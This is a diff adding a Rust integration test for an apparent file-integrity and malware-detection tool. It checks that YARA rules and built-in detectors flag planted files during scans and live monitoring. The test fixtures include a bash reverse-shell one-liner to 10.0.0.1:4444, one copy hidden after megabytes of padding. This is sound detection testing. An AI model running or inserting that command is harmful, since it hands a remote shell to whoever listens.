@@ -193,3 +193,49 @@ fn changes_are_told_once_with_who_and_those_of_one_act_are_one_line() {
     let after = place.lines();
     assert_eq!(after.len(), before + 1, "{after:#?}");
 }
+
+#[test]
+fn rules_of_ours_and_of_a_pack_judge_what_is_new_by_a_scan_and_while_the_agent_runs() {
+    if !is_root() {
+        return;
+    }
+    let place = Place::new(&["srv", "rules/pack"]);
+    fs::write(
+        place.at("rules/pack/a.yar"),
+        "rule marked { meta: description = \"a mark\" strings: $a = \"MARK-OF-A-PACK\" condition: $a }",
+    )
+    .unwrap();
+    fs::write(place.at("rules/pack/bad.yar"), "rule bad { condition: nobody_knows }").unwrap();
+    let shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
+    fs::write(place.at("srv/known.sh"), shell).unwrap();
+    fs::write(place.at("srv/long.bin"), vec![b'.'; 3 << 20]).unwrap();
+    place.baseline("srv");
+    fs::write(place.at("srv/known.sh"), format!("{shell}# it was there before\n")).unwrap();
+    fs::write(place.at("srv/new.sh"), shell).unwrap();
+    fs::write(place.at("srv/marked"), "here is the MARK-OF-A-PACK").unwrap();
+    // In the last bytes of a file that is longer than what is judged whole.
+    fs::write(place.at("srv/long.bin"), [&vec![b'.'; 3 << 20][..], b"\n", shell.as_bytes()].concat()).unwrap();
+    let output = place.home.run(&["fim", "scan"]);
+    let said = told(&output);
+    assert_eq!(output.status.code(), Some(5), "{said}");
+    assert!(said.contains("YARA rules of pack/bad.yar are refused: line 1") && said.contains("nobody_knows"), "{said}");
+    let dangers: Vec<&str> = said.lines().filter(|line| line.contains("DANGER ")).collect();
+    assert_eq!(dangers.len(), 3, "{said}");
+    assert!(dangers[0].contains("srv/long.bin: it connects out and gives a shell to the other end (T1059.004)"), "{said}");
+    assert!(dangers[1].ends_with("srv/marked: it matches the YARA rule marked of pack/a.yar: a mark"), "{said}");
+    assert!(dangers[2].contains("srv/new.sh: it connects out"), "{said}");
+
+    let agent = place.home.start();
+    place.watched();
+    fs::write(place.at("srv/later.sh"), shell).unwrap();
+    let event = place.wait("srv/later.sh", "file added");
+    assert_eq!(event["file"]["integrity"]["findings"][0]["rule"], "reverse_shell_in_a_shell_script", "{event:#}");
+    let signal = || {
+        let signals = place.home.json(&["signals", "--limit", "1000"]);
+        signals.into_iter().find(|signal| signal["detector"] == "dangerous_file" && signal.to_string().contains("srv/later.sh"))
+    };
+    wait_for("the signal", Duration::from_secs(5), signal, || format!("{:#?}", place.home.json(&["signals"])));
+    let marked = place.wait("srv/marked", "file added");
+    assert_eq!(marked["file"]["integrity"]["findings"][0]["rule"], "marked", "found by looking again: {marked:#}");
+    assert_eq!(agent.stop().code(), Some(0));
+}
